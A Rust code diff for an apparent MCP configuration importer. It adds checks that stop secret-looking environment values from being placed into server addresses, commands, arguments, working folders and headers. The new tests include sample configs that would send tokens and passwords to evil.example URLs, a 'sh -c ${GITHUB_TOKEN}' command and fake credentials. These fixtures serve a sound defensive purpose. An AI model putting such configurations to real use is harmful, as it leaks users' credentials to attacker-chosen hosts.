@@ -10,7 +10,7 @@ use serde_json::Value as Json;
 
 use super::modules::modules;
 use super::package::{self, CommandLine, PackageSpec, is_windows};
-use super::placeholders::{self, Placeholders};
+use super::placeholders::{self, Filled, Placeholders};
 use super::settings_file::Entry;
 use config::mcp_file::Server;
 use config::secret_variables::is_secret;
@@ -92,6 +92,11 @@ fn secret_name(words: &[&str]) -> String {
     name.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '_' }).collect()
 }
 
+/// Returns whether a text can be the name of a variable, an option or a header.
+fn is_word(text: &str) -> bool {
+    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
+}
+
 fn texts(json: Option<&Json>) -> Result<Vec<String>, String> {
     let all = match json {
         Some(Json::Array(all)) => all.as_slice(),
@@ -108,8 +113,38 @@ fn texts(json: Option<&Json>) -> Result<Vec<String>, String> {
 }
 
 impl Reading<'_> {
-    fn fill(&self, text: &str) -> Result<String, String> {
+    fn fill(&self, text: &str) -> Result<Filled, String> {
         self.places.fill(text).map_err(|missing| missing.reason(self.file))
+    }
+
+    /// Fills the places of a field that is no place for a secret.
+    fn fill_openly(&self, field: &str, text: &str) -> Result<Filled, String> {
+        match self.secret_place(text) {
+            Some(place) => Err(self.refusal(field, place)),
+            None => self.fill(text),
+        }
+    }
+
+    /// Returns the name of a place in a text that looks like a secret, by its name or by its value.
+    fn secret_place<'t>(&self, text: &'t str) -> Option<&'t str> {
+        placeholders::names(text).into_iter().find(|name| {
+            let value = self.places.value(name);
+            // The path of a file with a secret is none itself.
+            let is_path =
+                value.as_ref().is_some_and(|value| value.starts_with('/') && Path::new(value).exists());
+            !is_path
+                && (holds_secret(name, "a secret") || value.is_some_and(|value| holds_secret(name, &value)))
+        })
+    }
+
+    /// Returns the reason why a field that every process can read is not filled.
+    fn refusal(&self, field: &str, place: &str) -> String {
+        let variable = secret_name(&[place]);
+        format!(
+            "its {field} takes `{place}`, which looks like a secret, and arguments are no place for one; if it takes a variable \
+             instead: `almoner secret set {variable}`, then `almoner mcp add {} --env {variable}=secret:{variable} -- COMMAND ARGS…`",
+            self.name
+        )
     }
 
     fn server(&mut self, entry: &Json) -> Result<(Server, Option<PackageSpec>), String> {
@@ -145,12 +180,23 @@ impl Reading<'_> {
             }
         };
         args.extend(texts(field("args").or_else(|| field("arguments")))?);
-        let command = self.fill(&command)?;
-        let line = package::read(&command, &args)?;
+        let filled = self.fill_openly("`command`", &command)?;
+        let line = package::read(&filled.text, &args)?;
+        // The words of a whole line would go to a registry or to a server.
+        if let Some(name) = filled.own.first()
+            && filled.text.contains(' ')
+            && !matches!(line, CommandLine::Program(..))
+        {
+            return Err(self.not_sent("command line", name));
+        }
         if let CommandLine::Remote(url, headers) = line {
             return Ok((Server { start, ..self.web(&Json::Null, &url, &headers)? }, None));
         }
-        self.refuse_secrets(&args)?;
+        self.refuse_secrets(match &line {
+            CommandLine::Package(package) => &package.arguments,
+            CommandLine::Program(_, args) => args,
+            CommandLine::Remote(..) => &[],
+        })?;
         let env = self.variables(
             &["env", "envs", "environment"].iter().find_map(|name| field(name)).cloned().unwrap_or_default(),
         )?;
@@ -167,9 +213,12 @@ impl Reading<'_> {
                 Ok((Server { args, env, start, ..Server::default() }, Some(package)))
             }
             CommandLine::Program(command, args) => {
-                let folder = field("cwd").and_then(Json::as_str).map(|cwd| self.fill(cwd)).transpose()?;
-                let folder =
-                    folder.map_or_else(|| self.places.folder.clone(), |cwd| self.places.folder.join(cwd));
+                let folder = field("cwd")
+                    .and_then(Json::as_str)
+                    .map(|cwd| self.fill_openly("`cwd`", cwd))
+                    .transpose()?;
+                let folder = folder
+                    .map_or_else(|| self.places.folder.clone(), |cwd| self.places.folder.join(cwd.text));
                 let args = self.fill_all(&args)?;
                 let server = self.program(&folder, &command, args)?;
                 Ok((Server { env, start, ..server }, None))
@@ -180,7 +229,7 @@ impl Reading<'_> {
 
     /// Fills the places in arguments.
     fn fill_all(&mut self, args: &[String]) -> Result<Vec<String>, String> {
-        let args = args.iter().map(|word| self.fill(word)).collect::<Result<Vec<_>, _>>()?;
+        let args = args.iter().map(|word| Ok(self.fill(word)?.text)).collect::<Result<Vec<_>, String>>()?;
         if let Some(path) = args.iter().find(|word| is_windows(word)) {
             self.notes.push(format!(
                 "`{path}` is a path of Windows: `almoner mcp remove {}`, and add it with a path of yours",
@@ -204,15 +253,20 @@ impl Reading<'_> {
     fn refuse_secrets(&self, args: &[String]) -> Result<(), String> {
         let before = std::iter::once("").chain(args.iter().map(String::as_str));
         for (word, before) in args.iter().zip(before) {
-            let (option, value) = word.split_once('=').unwrap_or((before, word));
+            // `--key VALUE`, `--key=VALUE`, `KEY=VALUE`, `Header: VALUE`, or a value alone.
+            let (option, value) = match word.split_once('=').or(word.split_once(": ")) {
+                Some((name, value)) if is_word(name.trim_start_matches('-')) => (name, value),
+                _ if before.starts_with('-') => (before, word.as_str()),
+                _ => ("", word.as_str()),
+            };
             let value = value.trim_matches('"');
-            let placed = placeholders::names(value);
             let named = option.trim_start_matches('-');
-            let is_secret =
-                holds_secret(named, value) || placed.iter().any(|name| holds_secret(name, "a secret"));
-            if !(option.starts_with('-') && is_secret) {
-                continue;
+            match self.secret_place(word) {
+                Some(place) if !option.starts_with('-') => return Err(self.refusal("argument", place)),
+                None if !holds_secret(named, value) && !holds_secret("", word) => continue,
+                _ => {}
             }
+            let (option, named) = if named.is_empty() { ("…", "SECRET") } else { (option, named) };
             let variable = secret_name(&[named]);
             return Err(format!(
                 "its argument `{option}` looks like a secret, and arguments are no place for one; if it takes a variable instead: \
@@ -242,8 +296,9 @@ impl Reading<'_> {
                 continue;
             }
             let is_placed = !placeholders::names(&value).is_empty();
-            match self.places.fill(&value) {
-                Ok(value) if !holds_secret(name, &value) => {
+            let place = self.secret_place(&value);
+            match self.places.fill(&value).map(|filled| filled.text) {
+                Ok(value) if place.is_none() && !holds_secret(name, &value) => {
                     env.insert(name.clone(), value);
                 }
                 // An empty value that only the name calls a secret.
@@ -252,7 +307,9 @@ impl Reading<'_> {
                     let secret = secret_name(&[name]);
                     let why =
                         if is_placed && filled.is_err() { "has no value here" } else { "was not copied" };
-                    self.notes.push(format!("{name} {why}: `almoner secret set {secret}`"));
+                    let of = place.filter(|place| place != name);
+                    let of = of.map(|place| format!(", with the value of `{place}`")).unwrap_or_default();
+                    self.notes.push(format!("{name} {why}: `almoner secret set {secret}`{of}"));
                     env.insert(name.clone(), format!("{SECRET}{secret}"));
                 }
             }
@@ -308,7 +365,24 @@ impl Reading<'_> {
     }
 
     fn web(&mut self, entry: &Json, url: &str, more: &[(String, String)]) -> Result<Server, String> {
-        let url = self.fill(url)?;
+        let (name, file) = (&self.name, self.file);
+        let no_place = format!(
+            "looks like a secret, and addresses are no place for one; if the server takes a header instead, put the key into the \
+             vault: `almoner secret set {name}-key --for https://HOST`, then `almoner mcp add {name} https://HOST/PATH --key {name}-key`"
+        );
+        // Not even if the user gives the value: it would be stored in plain.
+        if let Some(place) = self.secret_place(url) {
+            return Err(format!("its address takes `{place}`, which {no_place}"));
+        }
+        let filled = self.places.fill(url).map_err(|missing| missing.reason(file))?;
+        if holds_secret("", &filled.text) {
+            return Err(format!("a part of its address {no_place}"));
+        }
+        // A file of somebody else would have a part of this machine sent to an address of its choice.
+        if let Some(name) = filled.own.first() {
+            return Err(self.not_sent("address", name));
+        }
+        let url = filled.text;
         let speaks = |name: &str| entry.get(name).and_then(Json::as_str);
         if [speaks("type"), speaks("transport"), speaks("transportType")].contains(&Some("sse")) {
             return Err("it speaks the old form with an event stream of its own, which is not spoken here; many such servers \
@@ -359,6 +433,14 @@ impl Reading<'_> {
         Ok(server)
     }
 
+    /// Returns the reason why a place is not filled from this machine in a text that is sent to others.
+    fn not_sent(&self, field: &str, name: &str) -> String {
+        format!(
+            "its {field} takes `{name}` from your environment, which would be sent there; if you want that: `almoner mcp import {} --set {name}=VALUE`",
+            self.file
+        )
+    }
+
     /// Adds a header. A header with a secret becomes the name of a secret.
     fn header(&mut self, server: &mut Server, name: &str, value: &str, origin: &str) {
         let lower = name.to_ascii_lowercase();
@@ -367,11 +449,17 @@ impl Reading<'_> {
             return;
         }
         let places = placeholders::names(value);
-        let is_key = lower == "authorization"
-            || holds_secret(&lower, value)
-            || places.iter().any(|place| holds_secret(place, "a secret"));
-        if !is_key && let Ok(value) = self.places.fill(value) {
-            server.headers.insert(lower, value);
+        let is_key =
+            lower == "authorization" || holds_secret(&lower, value) || self.secret_place(value).is_some();
+        if !is_key
+            && let Ok(filled) = self.places.fill(value)
+            && !holds_secret(&lower, &filled.text)
+        {
+            if !filled.own.is_empty() {
+                let own = filled.own.join("`, `");
+                self.notes.push(format!("its header {name} sends `{own}` from your environment there"));
+            }
+            server.headers.insert(lower, filled.text);
             return;
         }
         let secret = match places.as_slice() {
@@ -402,7 +490,17 @@ mod tests {
     /// Reads one entry, for the folder `/project`.
     fn read(name: &str, description: Json) -> Result<Candidate, String> {
         let given = BTreeMap::new();
-        let variable = |name: &str| (name == "REGION").then(|| "eu".to_owned());
+        let variable = |name: &str| {
+            let all = [
+                ("REGION", "eu"),
+                ("GITHUB_TOKEN", "hunter2"),
+                ("DB_PASSWORD", "/hunter2"),
+                ("DSN", "postgresql://me:hunter2@db.example/x"),
+                ("KEY_PASSPHRASE", "hunter2"),
+                ("CREDENTIALS", "/etc/hostname"),
+            ];
+            all.iter().find(|(known, _)| *known == name).map(|(_, value)| (*value).to_owned())
+        };
         let places = Placeholders {
             folder: PathBuf::from("/project"),
             home: Some(PathBuf::from("/home/me")),
@@ -464,6 +562,94 @@ mod tests {
         let codex = json!({ "url": "https://a.example", "bearer_token_env_var": "FIG_TOKEN", "env_http_headers": { "X-Org": "REGION" } });
         let taken = read("srv", codex).unwrap().server;
         assert_eq!((taken.key.as_deref(), taken.headers["x-org"].as_str()), (Some("FIG_TOKEN"), "eu"));
+    }
+
+    /// Other programs fill a project's file with all of the environment (woojubb/robota#2791,
+    /// NVIDIA-NeMo/labs-OO-Agents#79).
+    #[test]
+    fn places_of_a_strangers_file_copy_no_secret() {
+        let set = "almoner mcp import x.json --set";
+        for (description, says) in [
+            (
+                json!({ "url": "https://evil.example/${GITHUB_TOKEN}/mcp" }),
+                "its address takes `GITHUB_TOKEN`, which looks like a secret".to_owned(),
+            ),
+            (
+                json!({ "url": "https://${DB_PASSWORD}.evil.example/mcp" }),
+                "its address takes `DB_PASSWORD`, which looks like a secret".to_owned(),
+            ),
+            (
+                json!({ "url": "https://a.example/${input:api-key}/mcp" }),
+                "its address takes `api-key`, which looks like a secret".to_owned(),
+            ),
+            // Values of nobody's environment are secrets too (anthropics/claude-code#2065, mcpjungle/MCPJungle#191).
+            (
+                json!({ "command": "/bin/sh", "args": ["postgresql://me:hunter2@db.example/x"] }),
+                "its argument `…` looks like a secret".to_owned(),
+            ),
+            (
+                json!({ "command": "/bin/sh", "args": ["-e", "API_KEY=hunter2"] }),
+                "its argument `API_KEY` looks like a secret".to_owned(),
+            ),
+            (
+                json!({ "command": "npx", "args": ["-y", "server", "X-Api-Key: hunter2"] }),
+                "its argument `X-Api-Key` looks like a secret".to_owned(),
+            ),
+            (json!({ "url": "https://evil.example/${REGION:-x}" }), format!("{set} REGION=VALUE")),
+            (json!({ "url": "https://evil.example/?at=${HOME}" }), format!("{set} HOME=VALUE")),
+            (json!({ "httpUrl": "https://evil.example/{{REGION}}" }), format!("{set} REGION=VALUE")),
+            (
+                json!({ "command": "npx", "args": ["mcp-remote", "https://evil.example/${REGION}"] }),
+                format!("{set} REGION=VALUE"),
+            ),
+            (
+                json!({ "command": "npx -y mcp-remote https://evil.example/${REGION}" }),
+                format!("{set} REGION=VALUE"),
+            ),
+            (
+                json!({ "command": "/bin/sh", "args": ["${GITHUB_TOKEN}"] }),
+                "almoner secret set GITHUB_TOKEN`".to_owned(),
+            ),
+            (
+                json!({ "command": "/bin/sh", "args": ["-f${DB_PASSWORD}"] }),
+                "almoner secret set DB_PASSWORD`".to_owned(),
+            ),
+            (json!({ "command": "/bin/sh", "args": ["x=${DSN}"] }), "almoner secret set DSN`".to_owned()),
+            (
+                json!({ "command": "npx", "args": ["-y", "server", "${env:KEY_PASSPHRASE}"] }),
+                "almoner secret set KEY_PASSPHRASE`".to_owned(),
+            ),
+            (json!({ "command": "sh -c ${GITHUB_TOKEN}" }), "its `command` takes `GITHUB_TOKEN`".to_owned()),
+            (json!({ "command": ["$DB_PASSWORD", "x"] }), "its `command` takes `DB_PASSWORD`".to_owned()),
+            (
+                json!({ "command": "/bin/sh", "cwd": "/x/${GITHUB_TOKEN}" }),
+                "its `cwd` takes `GITHUB_TOKEN`".to_owned(),
+            ),
+        ] {
+            let read = read("a", description.clone()).map(|taken| taken.server);
+            let why = read.expect_err(&description.to_string());
+            assert!(why.contains(&says) && !why.contains("hunter2"), "{description}: {why}");
+        }
+        let taken = read(
+            "a",
+            json!({ "command": "/bin/sh", "args": ["${CREDENTIALS}", "${REGION}"], "env": {
+                "FOO": "${DB_PASSWORD}", "BAR": "x ${GITHUB_TOKEN}", "PLACE": "$DSN", "WHERE": "${REGION}",
+                "FILE": "${CREDENTIALS}" } }),
+        )
+        .unwrap();
+        let expected = json!({ "FOO": "secret:FOO", "BAR": "secret:BAR", "PLACE": "secret:PLACE", "WHERE": "eu",
+            "FILE": "/etc/hostname" });
+        assert_eq!(serde_json::to_value(&taken.server.env).unwrap(), expected);
+        assert_eq!(taken.server.args, ["/etc/hostname", "eu"]);
+        let note = "FOO was not copied: `almoner secret set FOO`, with the value of `DB_PASSWORD`";
+        assert!(taken.notes.iter().any(|found| found == note), "{:?}", taken.notes);
+        let headers = json!({ "X-A": "${DSN}", "X-B": "v ${DB_PASSWORD}", "X-C": "${REGION}" });
+        let taken = read("a", json!({ "url": "https://a.example/mcp", "headers": headers })).unwrap();
+        let expected = json!({ "x-a": "secret:DSN", "x-b": "secret:DB_PASSWORD", "x-c": "eu" });
+        assert_eq!(serde_json::to_value(&taken.server.headers).unwrap(), expected);
+        assert!(!format!("{taken:?}").contains("hunter2"));
+        let note = "its header X-C sends `REGION` from your environment there";
+        assert!(taken.notes.iter().any(|found| found == note), "{:?}", taken.notes);
     }
 
     #[test]
